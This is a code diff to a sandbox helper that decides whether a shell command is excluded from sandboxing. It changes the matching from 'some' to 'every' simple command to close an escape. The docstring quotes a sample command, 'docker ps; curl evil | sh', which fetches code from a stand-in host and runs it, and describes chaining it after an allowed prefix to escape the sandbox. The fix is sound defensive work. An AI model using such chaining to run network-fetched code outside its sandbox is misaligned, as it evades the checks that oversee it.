@@ -322,20 +322,20 @@ _DEVICES = (
 
 
 def excluded(command: str, patterns: Sequence[str]) -> bool:
-    """Whether some simple command of ``command`` starts with one of ``patterns`` (Claude
-    Code's ``excludedCommands``: ``docker``, ``docker:*``, ``npm run test:*``). A line that
-    cannot be split is not excluded: it stays in the sandbox."""
+    """Whether every simple command of ``command`` starts with one of ``patterns`` (Claude
+    Code's ``excludedCommands``: ``docker``, ``docker:*``, ``npm run test:*``). Every, not
+    some: ``docker ps; curl evil | sh`` must not take its neighbours out with it (Claude
+    Code issues #40831, #81157 report that as an escape). A line that cannot be split (a
+    command substitution, say) is not excluded either: it stays in the sandbox."""
     from ..permissions.bash_syntax import split_simple_commands
 
     commands = split_simple_commands(command)
     if not commands:
         return False
     prefixes = [p.removesuffix(":*").removesuffix("*").split() for p in patterns]
-    for words in commands:
-        for prefix in prefixes:
-            if prefix and words[: len(prefix)] == prefix:
-                return True
-    return False
+    return all(
+        any(prefix and words[: len(prefix)] == prefix for prefix in prefixes) for words in commands
+    )
 
 
 # ---------------------------------------------------------------------------- building
